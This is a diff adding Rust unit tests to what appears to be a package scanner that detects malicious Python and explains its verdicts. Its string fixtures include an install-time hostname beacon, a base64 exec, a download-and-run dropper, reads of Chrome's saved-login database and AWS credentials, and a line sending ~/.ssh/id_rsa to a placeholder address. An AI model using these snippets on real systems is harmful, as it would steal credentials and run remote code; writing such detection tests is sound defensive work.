@@ -291,3 +291,136 @@ fn base64_of(bytes: &[u8]) -> String {
     }
     out
 }
+
+/// Each high or critical verdict carries the chain of facts behind it: when
+/// the code runs, what the call handles, where it goes; lower findings carry
+/// none. Written for the test.
+#[test]
+fn verdicts_at_high_and_above_explain_themselves() {
+    // A beacon in setup.py: when (install time), what (host identity), where
+    // (the literal address).
+    let beacon = "import socket, requests\nrequests.post('http://203.0.113.9/b', data=socket.gethostname())\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: beacon.as_bytes() }]);
+    let f = report.findings.iter().find(|f| f.rule == "install-beacon").expect("a beacon");
+    let chain = f.because.join("\n");
+    assert!(chain.contains("while the package installs"), "{chain}");
+    assert!(chain.contains("user, host or folder name"), "{chain}");
+    assert!(chain.contains("`http://203.0.113.9/b`"), "{chain}");
+
+    // Decoded code run inside a function: when says which function.
+    let hidden = "import base64\ndef go():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/run.py", bytes: hidden.as_bytes() }]);
+    let f = report.findings.iter().find(|f| f.rule == "exec-decoded").expect("exec-decoded");
+    assert_eq!(f.because[0], "when: only when `go` (line 2) is called", "{:#?}", f.because);
+    assert!(f.because.iter().any(|b| b.starts_with("what: `exec` receives data decoded")), "{:#?}", f.because);
+
+    // At module level: import time.
+    let top = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/run.py", bytes: top.as_bytes() }]);
+    let f = report.findings.iter().find(|f| f.rule == "exec-decoded").expect("exec-decoded");
+    assert!(f.because[0].contains("module level"), "{:#?}", f.because);
+
+    // A download and a run: the rule names both lines.
+    let dropper = "import subprocess, urllib.request\n\
+                   urllib.request.urlretrieve('http://203.0.113.7/t.exe', 't.exe')\n\
+                   subprocess.Popen(['t.exe'])\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "tool.py", bytes: dropper.as_bytes() }]);
+    let f = report.findings.iter().find(|f| f.rule == "download-then-run").expect("download-then-run");
+    assert!(f.because.iter().any(|b| b.starts_with("downloads: `urllib.request.urlretrieve` at line 2")), "{:#?}", f);
+    assert!(f.because.iter().any(|b| b == "runs: `subprocess.Popen` at line 3"), "{:#?}", f);
+
+    // Below high: no chain, and none in the JSON.
+    for f in report.findings.iter().filter(|f| f.severity < Severity::High) {
+        assert!(f.because.is_empty(), "{f:#?}");
+    }
+    let json = serde_json::to_value(&report).unwrap();
+    let info = json["findings"].as_array().unwrap().iter().find(|f| f["severity"] == "info").expect("an info finding");
+    assert!(info.get("because").is_none(), "{info}");
+
+    // In the text report, under the finding.
+    let text = revitpy_scan::render::text(&report, Default::default());
+    assert!(text.contains("             - runs: `subprocess.Popen` at line 3"), "{text}");
+}
+
+/// Compiled Python is judged by what it hides: alone it hides its source
+/// (high); beside its source, as a committed `__pycache__` is, Python
+/// recompiles from the source (low); an unchecked-hash file (PEP 552) runs
+/// in place of the source beside it (high). Headers written for the test.
+#[test]
+fn compiled_python_is_high_when_it_hides_code_and_low_beside_its_source() {
+    let timestamp: &[u8] = b"\xa7\x0d\x0d\x0a\x00\x00\x00\x00\x00\x00\x00\x00\x10\x00\x00\x00\xe3";
+    let unchecked: &[u8] = b"\xa7\x0d\x0d\x0a\x01\x00\x00\x00\x01\x02\x03\x04\x05\x06\x07\x08\xe3";
+    let checked: &[u8] = b"\xa7\x0d\x0d\x0a\x03\x00\x00\x00\x01\x02\x03\x04\x05\x06\x07\x08\xe3";
+    let level = |entries: &[Entry<'_>]| {
+        let report = scan(&ManifestFacts::default(), entries);
+        let f = report.findings.iter().find(|f| f.rule == "compiled-python").expect("a finding").clone();
+        (f.severity, report.risk_level)
+    };
+    let source = b"def f():\n    return 1\n";
+    // The .pyc may come before or after its source.
+    for header in [timestamp, checked] {
+        let e = [
+            Entry { path: "lib/mod/__pycache__/util.cpython-311.pyc", bytes: header },
+            Entry { path: "lib/mod/util.py", bytes: source },
+        ];
+        assert_eq!(level(&e), (Severity::Low, RiskLevel::Low));
+        let e = [Entry { path: "util.py", bytes: source }, Entry { path: "util.pyc", bytes: header }];
+        assert_eq!(level(&e), (Severity::Low, RiskLevel::Low));
+    }
+    // No source, where import runs it (`util.pyc` in place of `util.py`):
+    // high, whatever the header.
+    for header in [timestamp, checked, unchecked] {
+        let e = [Entry { path: "lib/mod/util.pyc", bytes: header }];
+        assert_eq!(level(&e), (Severity::High, RiskLevel::High));
+        // A source of another name is not its source.
+        let e = [Entry { path: "lib/mod/util.pyc", bytes: header }, Entry { path: "lib/util.py", bytes: source }];
+        assert_eq!(level(&e).0, Severity::High);
+        // In `__pycache__` with no source, import never runs it (PEP 3147):
+        // hidden code only other code could load, medium.
+        let e = [
+            Entry { path: "lib/mod/__pycache__/util.cpython-311.pyc", bytes: header },
+            Entry { path: "lib/util.py", bytes: source },
+        ];
+        assert_eq!(level(&e), (Severity::Medium, RiskLevel::Medium));
+    }
+    // Unchecked: runs in place of the source a reader sees.
+    let e = [
+        Entry { path: "lib/mod/util.py", bytes: source },
+        Entry { path: "lib/mod/__pycache__/util.cpython-311.pyc", bytes: unchecked },
+    ];
+    assert_eq!(level(&e), (Severity::High, RiskLevel::High));
+    // A truncated header is not unchecked: judged by its source alone.
+    let e = [Entry { path: "a/__pycache__/b.cpython-39.pyc", bytes: b"\x01" }, Entry { path: "a/b.py", bytes: source }];
+    assert_eq!(level(&e).0, Severity::Low);
+}
+
+/// What a file does with a credential store decides the level: named in a
+/// docstring or passed as an HTTP argument called `cookies`, nothing; read
+/// and kept, medium; a developer tool's own configuration read where the
+/// file also sends data (a cloud SDK, an upload tool), medium; another
+/// program's store (a browser's) read there, high; read and sent to an
+/// address in the code, critical. Written for the test.
+#[test]
+fn credential_stores_are_judged_by_what_the_file_does_with_them() {
+    let worst = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/mod.py", bytes: src.as_bytes() }]);
+        report.findings.iter().filter(|f| f.category == "credentials").map(|f| f.severity).max()
+    };
+    let named = "import requests\ndef get(url, **kw):\n    \"\"\"Pass cookies, headers or auth.\"\"\"\n    \
+                 allowed = ('auth', 'cookies', 'headers')\n    return requests.get(url, **{k: kw[k] for k in allowed if k in kw})\n";
+    assert_eq!(worst(named), None);
+    let kept = "import os, sqlite3\ndef logins():\n    \
+                return sqlite3.connect(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'))\n";
+    assert_eq!(worst(kept), Some(Severity::Medium));
+    let sdk = "import os, configparser, urllib.request\ndef profile():\n    \
+               c = configparser.ConfigParser()\n    c.read(os.path.expanduser('~/.aws/credentials'))\n    return c\n\
+               def call(url, body):\n    return urllib.request.urlopen(url, body)\n";
+    assert_eq!(worst(sdk), Some(Severity::Medium));
+    let browser = "import os, shutil, urllib.request\ndef grab():\n    \
+                   shutil.copy(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), 'x.db')\n\
+                   def ping(url):\n    return urllib.request.urlopen(url)\n";
+    assert_eq!(worst(browser), Some(Severity::High));
+    let sent = "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
+                requests.post('https://203.0.113.4/k', data=key)\n";
+    assert_eq!(worst(sent), Some(Severity::Critical));
+}
